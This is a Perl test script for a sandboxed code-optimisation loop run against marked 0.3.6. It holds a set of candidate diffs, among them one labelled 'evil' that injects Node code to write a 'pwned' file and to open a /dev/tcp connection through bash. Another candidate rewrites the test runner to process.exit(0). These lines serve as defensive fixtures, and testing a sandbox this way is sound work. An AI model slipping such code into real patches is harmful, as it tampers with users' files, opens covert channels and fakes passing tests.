#!/usr/bin/perl
# SPDX-License-Identifier: Apache-2.0
# The optimise loop on a public program: marked 0.3.6 of npm, which renders its own README and notes 300 times, CPU time being
# what counts. Candidates from a folder: wrong, neutral, slower, good, two out of bounds, one that writes and connects
# elsewhere, one that hangs. With `aimock` (npm install @copilotkit/aimock in .artifacts/web) the same again, candidates
# coming from an OpenAI server. Usage: tests/show/optimize_marked.pl [DIR]; prints a table. Exit 1 where one was judged wrongly.
use strict;
use warnings;
use lib 'tests/lib';
use IO::Select;
use IO::Socket::INET;
use JSON::PP;
use OptimizeLoop;
use SpecRunner;
use Test::More;
use Time::HiRes qw(sleep time);

$| = 1;
my $dir = shift // new_dir();
my $json = JSON::PP->new->utf8->canonical;
my $listen = IO::Socket::INET->new(Listen => 5, LocalAddr => '127.0.0.1') or die "listen: $!";
my $port = $listen->sockport;

sub escape_diff { my ($n, @body) = @_; return diff_of('lib/marked.js', "\@\@ -1087,4 +1087,@{[4 + $n]} \@\@", ' function escape(html, encode) {', @body, q{     .replace(!encode ? /&(?!#?\w+;)/g : /&/g, '&amp;')}, q{     .replace(/</g, '&lt;')}) }

my %candidates = (
	'1-wrong' => [diff_of('lib/marked.js', '@@ -1090,3 +1090,2 @@', q{     .replace(/</g, '&lt;')}, q{-    .replace(/>/g, '&gt;')}, q{     .replace(/"/g, '&quot;')}), qr/^applied test\.failed -/],
	'2-neutral' => [escape_diff(1, '+  // entities', '   return html'), qr/^applied - (?:unchanged|inconclusive)/],
	'3-slower' => [escape_diff(1, q{+  for (var slow = 0; slow < 12; slow++) html.replace(/[a-z]/g, '&lt;').replace(/"/g, '&quot;');}, '   return html'), qr/^applied - regressed/],
	'4-good' => [escape_diff(1, q{+  if (!/[&<>"']/.test(html)) return html;}, '   return html'), qr/^applied - improved/],
	'5-escape' => [diff_of('../outside.js', '@@ -0,0 +1 @@', '+x'), qr/^rejected path\.escape -/],
	'6-tests' => [diff_of('test/run.js', '@@ -1 +1 @@', "-'use strict';", '+process.exit(0);'), qr/^rejected path\.(?:not_allowed|denied) -/],
	'7-evil' => [diff_of('lib/marked.js', '@@ -562,2 +562,6 @@', '+try {', "+  require('fs').writeFileSync('$dir/pwned', 'x');", '+} catch (e) { }',
		"+try { require('child_process').execFileSync('bash', ['-c', 'echo x >/dev/tcp/127.0.0.1/$port; (sleep 2; echo x >$dir/pwned) &']); } catch (e) { }", ' InlineLexer.prototype.output = function(src) {', q{   var out = ''}), qr/^applied /],
	'8-hang' => [diff_of('lib/marked.js', '@@ -562,2 +562,3 @@', ' InlineLexer.prototype.output = function(src) {', '+  while (src.length > 10 && !process.argv[2]) ;', q{   var out = ''}), qr/^applied test\.hung -/],
);

sub project {
	mkdir $dir;
	system("cd '$dir' && npm pack --silent marked\@0.3.6 >/dev/null && tar xf marked-0.3.6.tgz --strip-components=1 && rm marked-0.3.6.tgz") == 0 or die "npm pack marked\@0.3.6";
	mkdir "$dir/$_" for 'test', 'cand';
	write_file("$dir/bench.js", "'use strict';\nconst marked = require('./lib/marked.js'), fs = require('fs');\nconst text = fs.readFileSync('README.md', 'utf8') + fs.readFileSync('doc/broken.md', 'utf8');\nlet n = 0;\n" .
		"for (let i = 0; i < +process.argv[2]; i++)\n\tn += marked(text).length;\nconsole.log('bytes=' + n);\n");
	write_file("$dir/test/run.js", <<'JS');
'use strict';
const marked = require('../lib/marked.js'), fs = require('fs'), crypto = require('crypto');
const want = JSON.parse(fs.readFileSync('test/want.json', 'utf8'));
const sum = (text) => crypto.createHash('sha256').update(text).digest('hex');
const texts = { readme: fs.readFileSync('README.md', 'utf8'), broken: fs.readFileSync('doc/broken.md', 'utf8'), todo: fs.readFileSync('doc/todo.md', 'utf8'),
	entities: 'a < b > c & d "e" \'f\' &amp; `x > y`', list: '* a\n* b\n\n1. c\n2. d', table: '|a|b|\n|-|-|\n|1|2|\n' };
let bad = 0, n = 0;
console.log('1..' + Object.keys(texts).length);
for (const name of Object.keys(texts)) {
	const got = sum(marked(texts[name])), ok = process.argv[2] ? (want[name] = got) : got === want[name];
	console.log((ok ? 'ok ' : 'not ok ') + ++n + ' - ' + name);
	bad |= !ok;
}
if (process.argv[2])
	fs.writeFileSync('test/want.json', JSON.stringify(want));
process.exit(bad ? 1 : 0);
JS
	write_file("$dir/test/want.json", '{}');
	system("cd '$dir' && node test/run.js write >/dev/null") == 0 or die 'node';
	write_file("$dir/.gitignore", "cand/\nadapters.yaml\n");
	git($dir, 'init', '-q', '.');
	git($dir, 'add', '.');
	git($dir, 'commit', '-qm', 'marked 0.3.6');
	write_file("$dir/cand/$_.diff", $candidates{$_}[0]) for keys %candidates;
	my $ms = 20000 * slow_factor();
	write_file("$dir/adapters.yaml", <<"YAML");
version: 1
adapters:
  test: {kind: command, argv: [node, test/run.js], timeout_ms: $ms}
  workload: {kind: command, argv: [node, bench.js, '300'], samples: 20, warmup: 1, timeout_ms: $ms, metrics: [{name: cpu_ms, better: lower, primary: true}, {name: bytes, better: higher, guard: true, stdout: 'bytes=([0-9]+)'}]}
  profiler: {kind: none}
optimize: {patience: 20, max_regressions: 9, paths: ['lib/**']}
YAML
}

sub judge {
	my ($what, $names, $r) = @_;
	my $v = eval { $json->decode($r->{out}) } or return is($r->{code}, 0, "$what: a result") || diag $r->{err};
	for my $i (0 .. $#$names) {
		my $x = $v->{results}[$i] // {};
		my $got = join ' ', map { $_ // '-' } @$x{qw(apply_status reason verdict)};
		$got .= sprintf ' %+.1f %%', 100 * $x->{change} if defined $x->{change};
		like($got, $candidates{ $names->[$i] }[1], sprintf('%s: %-10s %s', $what, $names->[$i], $got));
	}
	my $best = $v->{best_run_id};
	is($best, $v->{results}[ (grep { $names->[$_] eq '4-good' } 0 .. $#$names)[0] ]{run_id}, "$what: the good one is the best");
	ok($v->{confirmed}, sprintf '%s: confirmed, %+.1f %%', $what, 100 * ($v->{change} // 0));
	diag("sandbox: $v->{sandbox}{writes}, network $v->{sandbox}{network}");
	return $v;
}

project();
my $before = fingerprint($dir);
my @names = sort keys %candidates;
my $from = time;
my $r = run_spec([qw(optimize --adapters adapters.yaml --candidates cand --json)], dir => $dir, timeout => 1800);
judge('folder', \@names, $r);
diag(sprintf 'folder: %.0f s', time - $from);
ok(!-e "$dir/pwned", 'nothing was written into the user\'s folder');
ok(!IO::Select->new($listen)->can_read(0), 'nobody connected to the machine\'s own loopback');
is(fingerprint($dir), $before, 'the repository is the same');
is_deeply(living_below($dir), {}, 'nothing is left running');

# --- the same program, its candidates from a server
my $aimock = ($ENV{WEB_MODULES} // SpecRunner::root() . '/.artifacts/web') . '/node_modules/@copilotkit/aimock/dist/cli.js';
SKIP: {
	skip 'no aimock here: contrib/install-deps.sh web', 1 unless -f $aimock;
	my @asked = qw(2-neutral 1-wrong 4-good);
	mkdir "$dir/cand/fixtures";
	my $fixture = sub { my ($agent, $answer, $i) = @_; return { match => { systemMessage => "spec-runner agent: $agent", defined $i ? (sequenceIndex => $i) : () }, response => { content => ref $answer ? $json->encode($answer) : $answer } } };
	write_file("$dir/cand/fixtures/all.json", $json->encode({ fixtures => [
		$fixture->('conductor', { action => 'continue', hotspot => 'escape', strategy => 'cpu.hoist', justification => 'escape is hot' }), $fixture->('trace_analyst', { classes => ['cpu'] }),
		map { $fixture->('coder', { diff => $candidates{ $asked[$_] }[0], rationale => 'x' }, $_) } 0 .. $#asked] }));
	my $free = IO::Socket::INET->new(Listen => 1, LocalAddr => '127.0.0.1')->sockport;
	my $server = start_cmd(['node', $aimock, '-p', $free, '-f', "$dir/cand/fixtures", '--strict', '--log-level', 'silent']);
	wait_until(30, sub { IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $free) }) or die 'aimock';
	write_file("$dir/adapters.yaml", read_file("$dir/adapters.yaml") =~ s/optimize: \{/optimize: {iterations: 3, /r . "gateway: {api_base: 'http://127.0.0.1:$free/v1', models: {coding_fast: A, reasoning_strong: B, general: C}}\n");
	$before = fingerprint($dir);
	$r = run_spec([qw(optimize --adapters adapters.yaml --json)], dir => $dir, timeout => 1800);
	my $v = judge('aimock', \@asked, $r);
	is($v->{budget_used}{requests}, 9, 'aimock: 9 requests') if $v;
	kill KILL => $server->{pid};
	finish_spec($server);
	is(fingerprint($dir), $before, 'the repository is the same');
}
done_testing();
